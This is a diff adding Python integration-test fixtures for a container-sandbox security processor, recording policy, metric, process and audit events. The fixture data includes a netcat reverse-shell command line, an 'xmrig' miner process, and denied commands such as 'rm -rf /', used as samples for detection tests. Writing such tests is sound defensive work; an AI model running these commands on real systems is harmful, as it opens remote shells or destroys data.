@@ -1,0 +1,86 @@
+"""Recorded event sequences for the processor's integration tests (phased by topic: Kafka
+orders events per key within a topic, not across topics, so each phase is one topic)."""
+
+from __future__ import annotations
+
+from schemas import (
+    AuditCategory,
+    AuditEvent,
+    LimitsSample,
+    MetricSample,
+    PolicyEvent,
+    ProcessInfo,
+    ProcessSnapshot,
+    ResourceLimits,
+    SecurityPolicy,
+    encode,
+)
+from schemas import topics as t
+from tests.integration.processors.conftest import Recorded
+
+MIB = 1024 * 1024
+T0 = 1_800_000_000_000  # event times are explicit, far from the wall clock
+
+
+def _policy(cid: str, policy: SecurityPolicy) -> tuple[str, str, bytes]:
+    ev = PolicyEvent(
+        container_id=cid, host="h1", policy_id=policy.policy_id, policy=policy, sandbox_name=f"sg-{cid}"
+    )
+    return t.POLICIES, cid, encode(ev)
+
+
+def _denied(cid: str, t_ms: int, command: str) -> tuple[str, str, bytes]:
+    ev = AuditEvent(container_id=cid, host="h1", time=t_ms, category=AuditCategory.EXEC, action="exec",
+                    allowed=False, subject=command, reason="blocked")  # fmt: skip
+    return t.AUDIT, cid, encode(ev)
+
+
+def mixed() -> list[Recorded]:
+    """Four sandboxes, every family of rule, phased: policies, metrics, processes, audit."""
+    strict = SecurityPolicy(
+        resource_limits=ResourceLimits(memory_mb=64), violation_threshold=3, name="strict"
+    )
+    audit_only = SecurityPolicy(mode="audit", violation_threshold=2, name="audit-only")
+    allow = SecurityPolicy(allowed_commands={"sh", "python3"}, auto_terminate_on_violation=False,
+                           escalation_response="throttle", violation_threshold=2, name="allow")  # fmt: skip
+    policies: Recorded = [_policy("A", strict), _policy("B", audit_only), _policy("C", allow)]
+    metrics: Recorded = []
+    for i in range(6):
+        ts = T0 + i * 1000
+        a = MetricSample(container_id="A", host="h1", time=ts, memory_working_set_bytes=90 * MIB,
+                         pids_max_events_total=i * 2)  # fmt: skip
+        d = MetricSample(container_id="D", host="h2", time=ts, memory_oom_kills_total=min(i, 2))
+        metrics += [(t.METRICS, "A", encode(a)), (t.METRICS, "D", encode(d))]
+    drift = LimitsSample(container_id="C", host="h1", time=T0, memory_limit_bytes=None, pids_max=50,
+                         cpu_quota_us=50_000, cpu_period_us=100_000)  # fmt: skip
+    metrics.append((t.METRICS, "C", encode(drift)))
+
+    def proc(pid: int, comm: str, *argv: str) -> ProcessInfo:
+        return ProcessInfo(pid=pid, ppid=1, uid=1000, comm=comm, exe=f"/usr/bin/{comm}", argv=argv)
+
+    rs = proc(9, "nc", "nc", "-e", "/bin/sh", "127.0.0.1", "4444")
+    snap_b = ProcessSnapshot(container_id="B", host="h1", time=T0, full=True, processes=(rs,))
+    snap_c = ProcessSnapshot(
+        container_id="C",
+        host="h1",
+        time=T0 + 1,
+        full=True,
+        processes=(proc(3, "perl", "perl"), proc(4, "xmrig", "xmrig")),
+    )
+    processes: Recorded = [(t.PROCESSES, "B", encode(snap_b)), (t.PROCESSES, "C", encode(snap_c))]
+    audit: Recorded = [_denied("A", T0 + 7000, "rm -rf /"), _denied("C", T0 + 2000, "sudo ls")]
+    gone = AuditEvent(
+        container_id="D", host="h2", time=T0 + 9000, category=AuditCategory.LIFECYCLE, action="destroy"
+    )
+    audit.append((t.AUDIT, "D", encode(gone)))
+    return [policies, metrics, processes, audit]
+
+
+def denied_stream(containers: int, per_container: int) -> Recorded:
+    """Audit denials only (one topic, so any interleaving across containers is equivalent):
+    five distinct commands, then repeats; the default policy terminates at the fifth."""
+    out: Recorded = []
+    for j in range(per_container):
+        for c in range(containers):
+            out.append(_denied(f"k{c:03d}", T0 + j * 1000, f"cmd{j % 5} --n {j}"))
+    return out
